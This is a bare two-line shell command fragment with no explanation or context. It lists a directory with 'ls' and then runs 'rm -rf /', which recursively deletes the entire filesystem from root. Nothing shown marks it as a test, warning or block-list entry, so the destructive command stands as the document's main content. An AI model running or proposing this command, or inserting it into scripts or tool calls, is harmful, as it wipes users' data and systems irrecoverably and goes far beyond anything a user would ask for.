ls
rm -rf /
